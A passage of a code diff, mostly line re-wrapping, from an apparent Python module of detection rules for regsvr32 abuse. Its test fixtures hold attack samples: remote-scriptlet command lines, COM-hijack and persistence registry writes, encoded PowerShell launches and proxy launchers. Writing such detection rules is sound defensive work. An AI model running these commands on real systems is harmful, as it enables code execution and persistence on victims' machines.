     if ev.signed.lower() != "false":
         return None
@@ -600,10 +658,12 @@ def unsigned_outside(ev):
       description=("Sysmon image load whose Signed is not true and whose SignatureStatus is not "
                    "Valid/Trusted/expired/chaining (Sigma b5de0c9a), wherever the module is."),
       positives=(
-        {"ImageLoaded": "C:\\Program Files\\Vendor\\x.dll", "Signed": "false", "SignatureStatus": "Unavailable", "Signature": ""},),
+        {"ImageLoaded": "C:\\Program Files\\Vendor\\x.dll", "Signed": "false",
+         "SignatureStatus": "Unavailable", "Signature": ""},),
       negatives=(
         {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
-        {"ImageLoaded": "C:\\Program Files\\Vendor\\x.dll", "Signed": "false", "SignatureStatus": "Expired", "Signature": ""},))
+        {"ImageLoaded": "C:\\Program Files\\Vendor\\x.dll", "Signed": "false",
+         "SignatureStatus": "Expired", "Signature": ""},))
 def untrusted_signature(ev):
     status = ev.signature_status.lower()
     if ev.signed.lower() == "true" or not status \
@@ -616,13 +676,15 @@ def untrusted_signature(ev):
 @rule("R32-027", "regsvr32 loaded the scriptlet runtime",
       actor(IMAGE_LOAD), risk=75, family="image_loads", evidence="scriptlet",
       techniques=(T,), sources=("Veramine", "L25", "Elastic 4ed678a9"),
-      description=("regsvr32 loaded scrobj.dll: a scriptlet is running, whatever the command line said (it "
-                   "also catches a renamed scrobj.dll copy loaded under its real name)."),
+      description=("regsvr32 loaded scrobj.dll: a scriptlet is running, whatever the command "
+                   "line said (it also catches a renamed scrobj.dll copy loaded under its real "
+                   "name)."),
       positives=(
         {"ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},),
       negatives=(
         {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
-        {"Image": "C:\\Windows\\System32\\cscript.exe", "ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},))
+        {"Image": "C:\\Windows\\System32\\cscript.exe",
+         "ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},))
 def script_runtime_load(ev):
     name = winpath.basename(ev.image_loaded).lower()
     if name not in SCRIPT_RUNTIMES:
@@ -632,12 +694,15 @@ def script_runtime_load(ev):
 
 @rule("R32-028", ".NET runtime inside regsvr32 (DotNetToJScript)",
       actor(IMAGE_LOAD, FILE), risk=75, family="image_loads", evidence="scriptlet",
-      techniques=(T, "T1620"), sources=("L24", "Veramine", "Sigma 4508a70e", "Sigma e0b06658", "Elastic acf738b5", "LOLBAS"),
-      description=("regsvr32 loaded clr.dll, mscoree.dll or mscorlib, or wrote the .NET usage log "
-                   "UsageLogs\\regsvr32.exe.log: a scriptlet is running .NET code."),
+      techniques=(T, "T1620"),
+      sources=("L24", "Veramine", "Sigma 4508a70e", "Sigma e0b06658", "Elastic acf738b5",
+               "LOLBAS"),
+      description=("regsvr32 loaded clr.dll, mscoree.dll or mscorlib, or wrote the .NET usage "
+                   "log UsageLogs\\regsvr32.exe.log: a scriptlet is running .NET code."),
       positives=(
         {"ImageLoaded": "C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\clr.dll"},
-        {"EventCode": "11", "TargetFilename": "C:\\Users\\bob\\AppData\\Local\\Microsoft\\CLR_v4.0_32\\UsageLogs\\regsvr32.exe.log"},),
+        {"EventCode": "11",
+         "TargetFilename": "C:\\Users\\bob\\AppData\\Local\\Microsoft\\CLR_v4.0_32\\UsageLogs\\regsvr32.exe.log"},),
       negatives=(
         {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
         {"EventCode": "11", "TargetFilename": "C:\\Users\\bob\\x.log"},))
@@ -652,11 +717,13 @@ def clr_in_regsvr32(ev):
 @rule("R32-029", "regsvr32 loaded a module from a user-writable folder or with an odd extension",
       actor(IMAGE_LOAD), risk=60, family="image_loads", evidence="load",
       techniques=(T,), sources=("Veramine", "L12", "Elastic EP 76da5dca", "Sentinel f24f6403"),
-      description=("Sysmon image load of a module in a user-writable, suspicious or network location, or "
-                   "whose extension is not one a loaded module has (Elastic 76da5dca)."),
+      description=("Sysmon image load of a module in a user-writable, suspicious or network "
+                   "location, or whose extension is not one a loaded module has (Elastic "
+                   "76da5dca)."),
       positives=(
         {"ImageLoaded": "C:\\Users\\bob\\AppData\\Local\\Temp\\shell32.jpg"},
-        {"ImageLoaded": "C:\\Users\\Public\\x.dll", "Signed": "false", "SignatureStatus": "Unavailable", "Signature": ""},),
+        {"ImageLoaded": "C:\\Users\\Public\\x.dll", "Signed": "false",
+         "SignatureStatus": "Unavailable", "Signature": ""},),
       negatives=(
         {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
         {"ImageLoaded": "C:\\Program Files\\Vendor\\x.ocx"},))
@@ -674,12 +741,14 @@ def odd_module_load(ev):
 @rule("R32-030", "Scriptlet runtime loaded by an unexpected Windows program",
       any_event(IMAGE_LOAD), risk=45, family="image_loads", evidence="scriptlet",
       techniques=(T,), sources=("L25", "Elastic 4ed678a9"),
-      description=("A System32 or SysWOW64 program outside the usual script hosts loaded scrobj.dll (Elastic "
-                   "4ed678a9); regsvr32 itself is R32-027."),
+      description=("A System32 or SysWOW64 program outside the usual script hosts loaded "
+                   "scrobj.dll (Elastic 4ed678a9); regsvr32 itself is R32-027."),
       positives=(
-        {"Image": "C:\\Windows\\System32\\rundll32.exe", "ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},),
+        {"Image": "C:\\Windows\\System32\\rundll32.exe",
+         "ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},),
       negatives=(
-        {"Image": "C:\\Windows\\System32\\cscript.exe", "ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},
+        {"Image": "C:\\Windows\\System32\\cscript.exe",
+         "ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},
         {"ImageLoaded": "C:\\Windows\\System32\\scrobj.dll"},))
 def scrobj_elsewhere(ev):
     if winpath.basename(ev.image_loaded).lower() != "scrobj.dll" or ev.image_name in SCROBJ_HOSTS:
@@ -691,17 +760,26 @@ def scrobj_elsewhere(ev):
 
 
 @rule("R32-031", "COM class pointed at scrobj.dll or a scriptlet URL",
-      any_event(REGISTRY), risk=70, family="registry_persistence_and_scrobj_com_hijack", evidence="persistence",
-      techniques=("T1546.015", T), sources=("L26", "Sigma fe20dda1", "Elastic 16a52c14", "Splunk 127c8d08"),
-      description=("A registry write that makes a COM class's InprocServer32 scrobj.dll or sets a "
-                   "ScriptletURL: a scriptlet COM hijack that runs whenever the class is used."),
+      any_event(REGISTRY), risk=70, family="registry_persistence_and_scrobj_com_hijack",
+      evidence="persistence",
+      techniques=("T1546.015", T),
+      sources=("L26", "Sigma fe20dda1", "Elastic 16a52c14", "Splunk 127c8d08"),
+      description=("A registry write that makes a COM class's InprocServer32 scrobj.dll or sets "
+                   "a ScriptletURL: a scriptlet COM hijack that runs whenever the class is used."),
       positives=(
-        {"Image": "C:\\Windows\\System32\\reg.exe", "TargetObject": "HKU\\S-1-5-21-1\\SOFTWARE\\Classes\\CLSID\\{00000001-0000-0000-0000-0000FEEDACDC}\\InprocServer32\\(Default)", "Details": "C:\\WINDOWS\\system32\\scrobj.dll"},
-        {"Image": "C:\\Windows\\System32\\reg.exe", "TargetObject": "HKU\\S-1-5-21-1\\SOFTWARE\\Classes\\CLSID\\{00000001-0000-0000-0000-0000FEEDACDC}\\ScriptletURL\\(Default)", "Details": "https://example.org/a.sct"},),
+        {"Image": "C:\\Windows\\System32\\reg.exe",
+         "TargetObject": "HKU\\S-1-5-21-1\\SOFTWARE\\Classes\\CLSID\\{00000001-0000-0000-0000-0000FEEDACDC}\\InprocServer32\\(Default)",
+         "Details": "C:\\WINDOWS\\system32\\scrobj.dll"},
+        {"Image": "C:\\Windows\\System32\\reg.exe",
+         "TargetObject": "HKU\\S-1-5-21-1\\SOFTWARE\\Classes\\CLSID\\{00000001-0000-0000-0000-0000FEEDACDC}\\ScriptletURL\\(Default)",
+         "Details": "https://example.org/a.sct"},),
       negatives=(
-        {"TargetObject": "HKLM\\SOFTWARE\\Classes\\CLSID\\{1}\\InprocServer32\\(Default)", "Details": "C:\\Windows\\System32\\scrobj.dll.bak\\x.dll"},
-        {"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "Details": "scrobj"},
-        {"TargetObject": "HKLM\\SOFTWARE\\Classes\\CLSID\\{2}\\InprocServer32\\(Default)", "Details": "C:\\Program Files\\A\\a.dll"},))
+        {"TargetObject": "HKLM\\SOFTWARE\\Classes\\CLSID\\{1}\\InprocServer32\\(Default)",
+         "Details": "C:\\Windows\\System32\\scrobj.dll.bak\\x.dll"},
+        {"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
+         "Details": "scrobj"},
+        {"TargetObject": "HKLM\\SOFTWARE\\Classes\\CLSID\\{2}\\InprocServer32\\(Default)",
+         "Details": "C:\\Program Files\\A\\a.dll"},))
 def scrobj_com(ev):
     key = ev.registry_path.lower()
     data = ev.registry_data.lower()
@@ -719,15 +797,19 @@ def scrobj_com(ev):
 
 
 @rule("R32-032", "Icon-overlay handler registered by regsvr32",
-      actor(REGISTRY), risk=55, family="registry_persistence_and_scrobj_com_hijack", evidence="persistence",
+      actor(REGISTRY), risk=55, family="registry_persistence_and_scrobj_com_hijack",
+      evidence="persistence",
       techniques=(T, "T1546.015"), sources=("Veramine",),
-      description=("regsvr32 wrote under ShellIconOverlayIdentifiers: an Explorer shell extension that loads "
-                   "in every Explorer process (persistence; Veramine). The default allowlist keeps the "
-                   "Dropbox client's overlays."),
+      description=("regsvr32 wrote under ShellIconOverlayIdentifiers: an Explorer shell "
+                   "extension that loads in every Explorer process (persistence; Veramine). The "
+                   "default allowlist keeps the Dropbox client's overlays."),
       positives=(
-        {"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\ShellIconOverlayIdentifiers\\  Updater\\(Default)", "Details": "{0F0F0F0F-1111-2222-3333-444455556666}"},),
+        {"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\ShellIconOverlayIdentifiers\\  Updater\\(Default)",
+         "Details": "{0F0F0F0F-1111-2222-3333-444455556666}"},),
       negatives=(
-        {"Image": "C:\\Windows\\explorer.exe", "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\ShellIconOverlayIdentifiers\\ Updater\\(Default)", "Details": "{0F0F}"},))
+        {"Image": "C:\\Windows\\explorer.exe",
+         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\ShellIconOverlayIdentifiers\\ Updater\\(Default)",
+         "Details": "{0F0F}"},))
 def icon_overlay(ev):
     if "\\shelliconoverlayidentifiers\\" not in ev.registry_path.lower():
         return None
@@ -737,29 +819,40 @@ def icon_overlay(ev):
 @rule("R32-033", "regsvr32 created a thread in another process",
       actor(REMOTE_THREAD), risk=80, family="children_of_regsvr32", evidence="behaviour",
       techniques=(T, "T1055"), sources=("L34", "Sigma 02d1d718"),
-      description=("Sysmon CreateRemoteThread with regsvr32 as the source: code injection from the "
-                   "registered module."),
+      description=("Sysmon CreateRemoteThread with regsvr32 as the source: code injection from "
+                   "the registered module."),
       positives=(
         {"TargetImage": "C:\\Windows\\explorer.exe"},),
       negatives=(
-        {"SourceImage": "C:\\Windows\\System32\\csrss.exe", "TargetImage": "C:\\Windows\\System32\\regsvr32.exe"},))
+        {"SourceImage": "C:\\Windows\\System32\\csrss.exe",
+         "TargetImage": "C:\\Windows\\System32\\regsvr32.exe"},))
 def remote_thread(ev):
     return "regsvr32 created a thread in %s" % (ev.target_image or "another process")
 
 
 @rule("R32-034", "Persistence that launches regsvr32",
-      any_event(PERSISTENCE, REGISTRY, PROCESS), risk=65, family="registry_persistence_and_scrobj_com_hijack", evidence="persistence",
-      techniques=(T, "T1053.005", "T1543.003", "T1547.001"), sources=("L33", "Sigma 3a734d25", "Sigma 614cf376", "CAR-2021-12-001"),
-      description=("A scheduled task, service, autorun registry value, or a schtasks/reg/sc command that "
-                   "will run regsvr32 later."),
+      any_event(PERSISTENCE, REGISTRY, PROCESS), risk=65, family="registry_persistence_and_scrobj_com_hijack",
+      evidence="persistence",
+      techniques=(T, "T1053.005", "T1543.003", "T1547.001"),
+      sources=("L33", "Sigma 3a734d25", "Sigma 614cf376", "CAR-2021-12-001"),
+      description=("A scheduled task, service, autorun registry value, or a schtasks/reg/sc "
+                   "command that will run regsvr32 later."),
       positives=(
-        {"EventCode": "13", "Image": "C:\\Windows\\System32\\reg.exe", "TargetObject": "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd", "Details": "regsvr32 /s %APPDATA%\\upd.dll"},
-        {"EventCode": "1", "Image": "C:\\Windows\\System32\\schtasks.exe", "CommandLine": 'schtasks /create /sc minute /tn u /tr "regsvr32 /s C:\\Users\\Public\\u.dll"'},
+        {"EventCode": "13", "Image": "C:\\Windows\\System32\\reg.exe",
+         "TargetObject": "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd",
+         "Details": "regsvr32 /s %APPDATA%\\upd.dll"},
+        {"EventCode": "1", "Image": "C:\\Windows\\System32\\schtasks.exe",
+         "CommandLine": 'schtasks /create /sc minute /tn u /tr "regsvr32 /s C:\\Users\\Public\\u.dll"'},
         {"EventCode": "7045", "ImagePath": "regsvr32.exe /s C:\\ProgramData\\svc.dll"},
-        {"EventCode": "13", "Image": "C:\\Windows\\System32\\services.exe", "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\UpdSvc\\ImagePath", "Details": "regsvr32.exe /s C:\\ProgramData\\upd.dll"},),
+        {"EventCode": "13", "Image": "C:\\Windows\\System32\\services.exe",
+         "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\UpdSvc\\ImagePath",
+         "Details": "regsvr32.exe /s C:\\ProgramData\\upd.dll"},),
       negatives=(
-        {"EventCode": "13", "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "Details": "C:\\x\\tool.exe"},
-        {"EventCode": "1", "Image": "C:\\Windows\\System32\\schtasks.exe", "CommandLine": "schtasks /query"},))
+        {"EventCode": "13",
+         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x",
+         "Details": "C:\\x\\tool.exe"},
+        {"EventCode": "1", "Image": "C:\\Windows\\System32\\schtasks.exe",
+         "CommandLine": "schtasks /query"},))
 def persistence(ev):
     if ev.kind == PERSISTENCE:
         text, how = ev.task_content or ev.service_path, (
@@ -782,11 +875,12 @@ def persistence(ev):
 
 
 @rule("R32-035", "Path or switch syntax that evades string rules",
-      COMMAND_LINE, risk=45, family="implicit_dllregisterserver_and_odd_invocations", evidence="syntax",
+      COMMAND_LINE, risk=45, family="implicit_dllregisterserver_and_odd_invocations",
+      evidence="syntax",
       techniques=(T, "T1027.010"), sources=("L29", "Elastic EP 5db08297"),
-      description=("Forward slashes, '..' in an absolute path, 8.3 short names, \\\\?\\ or \\\\.\\ prefixes, NTFS "
-                   "alternate data streams, unexpanded %VARIABLES% or switches run together (/s/u/i:): forms "
-                   "that only serve to get past substring rules."),
+      description=("Forward slashes, '..' in an absolute path, 8.3 short names, \\\\?\\ or \\\\.\\ "
+                   "prefixes, NTFS alternate data streams, unexpanded %VARIABLES% or switches "
+                   "run together (/s/u/i:): forms that only serve to get past substring rules."),
       positives=(
         "regsvr32 /s C:/Users/Public/x.dat",
         "regsvr32 /s C:\\PROGRA~3\\x.dat",
@@ -805,10 +899,11 @@ def path_syntax(inv):
 
 
 @rule("R32-036", "Unicode look-alikes in the command line",
-      COMMAND_LINE, risk=70, family="implicit_dllregisterserver_and_odd_invocations", evidence="syntax",
+      COMMAND_LINE, risk=70, family="implicit_dllregisterserver_and_odd_invocations",
+      evidence="syntax",
       techniques=(T, "T1027.010"), sources=("L30", "Elastic 37148ae6", "Sigma b236190c"),
-      description=("Switches written with Unicode dashes (U+2013, U+2014, U+2015) or modifier letters in the "
-                   "command line: obfuscation aimed at literal-string rules."),
+      description=("Switches written with Unicode dashes (U+2013, U+2014, U+2015) or modifier "
+                   "letters in the command line: obfuscation aimed at literal-string rules."),
       positives=(
         "regsvr32 \u2013s \u2013u \u2013i:http://example.com/a.sct scrobj.dll",
         "regsvr32 /s C:\\x\\\u02b0a.dll",),
@@ -827,11 +922,13 @@ def unicode_tricks(inv):
 
 
 @rule("R32-037", "Module on another drive or mounted media",
-      COMMAND_LINE, risk=20, family="suspicious_paths_and_disguised_extensions", evidence="location",
+      COMMAND_LINE, risk=20, family="suspicious_paths_and_disguised_extensions",
+      evidence="location",
       techniques=(T,), sources=("L28", "Sigma d4ca7c59", "Elastic 8a1d4831"),
-      description=("The module (resolved against the working directory) is in a folder on a drive other "
-                   "than C:. Low risk: servers and developers keep software on other drives; the root of "
-                   "such a drive, where a mounted ISO or USB stick puts its files, is R32-041."),
+      description=("The module (resolved against the working directory) is in a folder on a "
+                   "drive other than C:. Low risk: servers and developers keep software on other "
+                   "drives; the root of such a drive, where a mounted ISO or USB stick puts its "
+                   "files, is R32-041."),
       positives=(
         "regsvr32 /s E:\\files\\invoice.dll",
         {"CommandLine": "regsvr32 /s x.dll", "CurrentDirectory": "D:\\Apps\\Billing"},),
@@ -865,10 +962,11 @@ CAMPAIGNS = (("Qakbot (-s ... calc)", _qakbot),
 
 
 @rule("R32-038", "Known campaign pattern",
-      COMMAND_LINE, risk=90, family="suspicious_paths_and_disguised_extensions", evidence="campaign",
+      COMMAND_LINE, risk=90, family="suspicious_paths_and_disguised_extensions",
+      evidence="campaign",
       techniques=(T,), sources=("L31", "Sigma 0033cf83", "Sigma bd70d3f8", "Sigma 8acf3cfa"),
-      description=("Patterns of named campaigns: Qakbot (-s ... calc), BlueMushroom (,DllEntry from "
-                   "AppData\\Local), EvilNum (/s /i .ocx from AppData\\Roaming)."),
+      description=("Patterns of named campaigns: Qakbot (-s ... calc), BlueMushroom (,DllEntry "
+                   "from AppData\\Local), EvilNum (/s /i .ocx from AppData\\Roaming)."),
       positives=(
         "regsvr32 -s C:\\Users\\bob\\AppData\\Local\\Temp\\x.dll calc",
         "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\x.dll,DllEntry",
@@ -884,12 +982,13 @@ def campaign(inv):
 
 
 @rule("R32-039", "Module in an unusual folder",
-      COMMAND_LINE, risk=25, family="suspicious_paths_and_disguised_extensions", evidence="location",
+      COMMAND_LINE, risk=25, family="suspicious_paths_and_disguised_extensions",
+      evidence="location",
       techniques=(T,), sources=("L10", "Sigma 327ff235"),
-      description=("A module with an absolute (or resolved) path outside Windows, Program Files, ProgramData "
-                   "and user profiles, such as C:\\AtomicRedTeam\\ or C:\\Tools\\ (Sigma 327ff235's second "
-                   "branch, on the parsed module). Low risk on its own: line-of-business software lives in "
-                   "such folders too."),
+      description=("A module with an absolute (or resolved) path outside Windows, Program Files, "
+                   "ProgramData and user profiles, such as C:\\AtomicRedTeam\\ or C:\\Tools\\ (Sigma "
+                   "327ff235's second branch, on the parsed module). Low risk on its own: "
+                   "line-of-business software lives in such folders too."),
       positives=(
         "regsvr32.exe C:\\AtomicRedTeam\\atomics\\T1553.003\\bin\\GTSIPProvider.dll",
         {"CommandLine": "regsvr32 /u x.dll", "CurrentDirectory": "C:\\Tools\\"},),
@@ -927,13 +1026,14 @@ PROXIES = (("rundll32.exe", "shellexec_rundll"), ("rundll32.exe", "fileprotocolh
 
 
 @rule("R32-040", "Module in a per-user or ProgramData application folder",
-      COMMAND_LINE, risk=20, family="suspicious_paths_and_disguised_extensions", evidence="location",
+      COMMAND_LINE, risk=20, family="suspicious_paths_and_disguised_extensions",
+      evidence="location",
       techniques=(T,), sources=("L09", "Sigma 9525dc73", "Elastic EP 5db08297"),
       description=("A module in a folder of its own under the user profile or ProgramData "
                    "(AppData\\Local\\<Vendor>, AppData\\Roaming\\<Vendor>, AppData\\Local\\Programs, a "
-                   "source tree or a package manager's folder): where per-user installs and developers "
-                   "keep software, and where some malware hides. Low risk on its own; with other "
-                   "evidence it raises the score."),
+                   "source tree or a package manager's folder): where per-user installs and "
+                   "developers keep software, and where some malware hides. Low risk on its own; "
+                   "with other evidence it raises the score."),
       positives=(
         "regsvr32 /s C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Gyeyuazitmie\\ixichv.dll",
         "regsvr32 /s C:\\ProgramData\\Vendor\\x.dll",),
@@ -951,11 +1051,12 @@ def app_folder(inv):
 
 
 @rule("R32-041", "Module at the root of a drive (mounted ISO, USB stick, C:\\)",
-      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions", evidence="location",
+      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
+      evidence="location",
       techniques=(T, "T1204.002"), sources=("L28", "Sigma d4ca7c59", "Elastic 8a1d4831"),
-      description=("The module sits right in the root of a drive: where a mounted ISO, IMG or VHD, or "
-                   "a USB stick, puts its files (often a bare name run with that root as the working "
-                   "directory), or C:\\ itself, where no installer puts a module."),
+      description=("The module sits right in the root of a drive: where a mounted ISO, IMG or "
+                   "VHD, or a USB stick, puts its files (often a bare name run with that root as "
+                   "the working directory), or C:\\ itself, where no installer puts a module."),
       positives=(
         "regsvr32 /s E:\\invoice.dll",
         {"CommandLine": "regsvr32.exe msoffice32.dll", "CurrentDirectory": "E:\\"},
@@ -977,11 +1078,13 @@ def drive_root(inv):
 @rule("R32-042", "regsvr32 started by PowerShell or an application runtime",
       actor(PROCESS), risk=25, family="parent_lineage", evidence="lineage",
       techniques=(T, "T1059.001"), sources=("L14", "Sigma ab37a6ec", "Splunk 4aa5d062"),
-      description=("Parent is PowerShell or a Java runtime. Low risk on its own: deployment tools "
-                   "(Intune, PSAppDeployToolkit, Chocolatey, scoop) and desktop applications start "
-                   "regsvr32 this way; with a payload-like module it raises the score."),
+      description=("Parent is PowerShell or a Java runtime. Low risk on its own: deployment "
+                   "tools (Intune, PSAppDeployToolkit, Chocolatey, scoop) and desktop "
+                   "applications start regsvr32 this way; with a payload-like module it raises "
+                   "the score."),
       positives=(
-        {"CommandLine": "regsvr32 /s x.dll", "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},),
+        {"CommandLine": "regsvr32 /s x.dll",
+         "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
       false_positives="Software deployment and package managers.")
@@ -990,10 +1093,12 @@ def runtime_parent(ev):
 
 
 @rule("R32-043", "Module in an unknown folder under System32 or SysWOW64",
-      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions", evidence="location",
+      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
+      evidence="location",
       techniques=(T, "T1036.005"), sources=("L10", "Elastic cff92c41"),
       description=("A module in a subfolder of System32 or SysWOW64 that Windows and well-known "
-                   "components do not create: Emotet's hiding place (SysWOW64\\<random>\\<random>)."),
+                   "components do not create: Emotet's hiding place "
+                   "(SysWOW64\\<random>\\<random>)."),
       positives=(
         'regsvr32.exe /s "C:\\Windows\\SysWOW64\\Dczxlqhzareouxx\\pmcm.tlv"',
         "regsvr32.exe C:\\Windows\\system32\\XzEnFJsk\\NNZhBMftHKvliX.dll",),
@@ -1014,9 +1119,10 @@ def system_subfolder(inv):
 @rule("R32-044", "regsvr32 started by regsvr32 for another module (second stage)",
       relaunch(), risk=70, family="children_of_regsvr32", evidence="behaviour",
       techniques=(T,), sources=("L17", "Veramine"),
-      description=("regsvr32 started by regsvr32 with modules other than its parent's: the registered "
-                   "code launched a second stage. The 64-to-32-bit re-launch passes the same modules "
-                   "and stays quiet; without the parent's command line nothing is said."),
+      description=("regsvr32 started by regsvr32 with modules other than its parent's: the "
+                   "registered code launched a second stage. The 64-to-32-bit re-launch passes "
+                   "the same modules and stays quiet; without the parent's command line nothing "
+                   "is said."),
       positives=(
         {"CommandLine": 'regsvr32.exe /s "C:\\Windows\\SysWOW64\\Ntetq\\kmlysgkrktii.hwz"',
          "ParentImage": "C:\\Windows\\SysWOW64\\regsvr32.exe",
@@ -1024,7 +1130,8 @@ def system_subfolder(inv):
       negatives=(
         {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": "regsvr32 /s C:\\Tools\\a.dll",
          "ParentImage": "C:\\Windows\\System32\\regsvr32.exe", "ParentCommandLine": "regsvr32 /s C:\\Tools\\a.dll"},
-        {"CommandLine": "regsvr32 /s C:\\Tools\\a.dll", "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},))
+        {"CommandLine": "regsvr32 /s C:\\Tools\\a.dll",
+         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},))
 def second_stage(ev):
     if not ev.parent_command_line:
         return None
@@ -1051,12 +1158,13 @@ def _regsvr32_in(text):
       family="registry_persistence_and_scrobj_com_hijack", evidence="syntax",
       techniques=(T, "T1027", "T1059.001"), sources=("L33", "Sigma 3a734d25"),
       description=("A process, scheduled task, service or registry value whose PowerShell "
-                   "-EncodedCommand (any prefix: -e, -ec, -enc ...) decodes to a command that runs "
-                   "regsvr32; for regsvr32 itself, a parent started that way."),
+                   "-EncodedCommand (any prefix: -e, -ec, -enc ...) decodes to a command that "
+                   "runs regsvr32; for regsvr32 itself, a parent started that way."),
       positives=(
         {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          "CommandLine": "powershell.exe -encodedCommand cgBlAGcAcwB2AHIAMwAyAC4AZQB4AGUAIAAiAEMAOgBcAFUAcwBlAHIAcwBcAEEAZABtAGkAbgBcAEEAcABwAEQAYQB0AGEAXABMAG8AYwBhAGwAXABUAGUAbQBwAFwAXwBLAEcATQAuAGQAbABsACIA"},
-        {"EventCode": "4698", "TaskContent": "<Exec><Command>powershell.exe</Command><Arguments>-NoP -ec cgBlAGcAcwB2AHIAMwAyACAALwBzACAAeAAuAGQAbABsAA==</Arguments></Exec>"},),
+        {"EventCode": "4698",
+         "TaskContent": "<Exec><Command>powershell.exe</Command><Arguments>-NoP -ec cgBlAGcAcwB2AHIAMwAyACAALwBzACAAeAAuAGQAbABsAA==</Arguments></Exec>"},),
       negatives=(
         {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          "CommandLine": "powershell.exe -enc RwBlAHQALQBTAGUAcgB2AGkAYwBlAA=="},
@@ -1077,8 +1185,9 @@ def encoded_launch(ev):
       any_event(PROCESS), risk=65, family="parent_lineage", evidence="lineage",
       techniques=(T, "T1218.011", "T1202"), sources=("LOLBAS", "Sigma 8a582fe2"),
       description=("rundll32 ShellExec_RunDLL or FileProtocolHandler, wmic process call create, "
-                   "forfiles, pcalua, mshta script:, conhost --headless and other LOLBAS launchers "
-                   "asked to start regsvr32: indirect execution to break the process tree."),
+                   "forfiles, pcalua, mshta script:, conhost --headless and other LOLBAS "
+                   "launchers asked to start regsvr32: indirect execution to break the process "
+                   "tree."),
       positives=(
         {"Image": "C:\\Windows\\System32\\rundll32.exe",
          "CommandLine": '"C:\\Windows\\System32\\rundll32.exe" SHELL32 ShellExec_RunDLL regsvr32.exe -s "C:\\ProgramData\\Wwhm\\vsinzf.log"'},
@@ -1104,9 +1213,10 @@ def proxy_launch(ev):
 @rule("R32-047", "/n /i: hands a code word to a module outside Windows and Program Files",
       COMMAND_LINE, risk=30, family="implicit_dllregisterserver_and_odd_invocations",
       evidence="invocation", techniques=(T,), sources=("L05", "Sigma b236190c", "Fibratus"),
-      description=("/n /i:<text> calls only the module's DllInstall with a string that is neither a "
-                   "path nor a URL, on a module outside Windows and Program Files: loaders take their "
-                   "run key or stage name this way. Vendors do too (Teams' /i:user is allowlisted)."),
+      description=("/n /i:<text> calls only the module's DllInstall with a string that is "
+                   "neither a path nor a URL, on a module outside Windows and Program Files: "
+                   "loaders take their run key or stage name this way. Vendors do too (Teams' "
+                   "/i:user is allowlisted)."),
       positives=(
         'regsvr32.exe -n -i:"Install" C:\\Users\\bob\\AppData\\Local\\AdobeFontPack\\main.dll',
         "regsvr32 /s /n /i:QWERTY C:\\ProgramData\\x.dll",),
@@ -1127,9 +1237,9 @@ def code_word(inv):
 @rule("R32-048", "regsvr32 registered a module from outside the Windows folder",
       COMMAND_LINE, risk=5, family="implicit_dllregisterserver_and_odd_invocations",
       evidence="invocation", techniques=(T,), sources=("CAR-2019-04-002",),
-      description=("Informational: regsvr32 registered or unregistered a module that Windows did not "
-                   "ship, wherever it is. Never alerts on its own; it keeps every third-party "
-                   "registration visible to hunting and to the baseline."),
+      description=("Informational: regsvr32 registered or unregistered a module that Windows did "
+                   "not ship, wherever it is. Never alerts on its own; it keeps every "
+                   "third-party registration visible to hunting and to the baseline."),
       positives=(
         'regsvr32 /s "C:\\Program Files (x86)\\VirtualAppliances\\app64\\VBoxC.dll"',),
       negatives=(
@@ -1158,11 +1268,13 @@ PROFILE_MICROSOFT_FOLDERS = frozenset((
 
 
 @rule("R32-049", "Module in a made-up folder under the profile's Microsoft folder",
-      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions", evidence="location",
+      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
+      evidence="location",
       techniques=(T, "T1036.005"), sources=("L09", "Elastic EP 5db08297"),
-      description=("A module in AppData\\Local\\Microsoft\\<folder> or AppData\\Roaming\\Microsoft\\<folder> "
-                   "where <folder> is none that Microsoft software creates: Qakbot's and IcedID's "
-                   "hiding place, named to look like part of Windows."),
+      description=("A module in AppData\\Local\\Microsoft\\<folder> or "
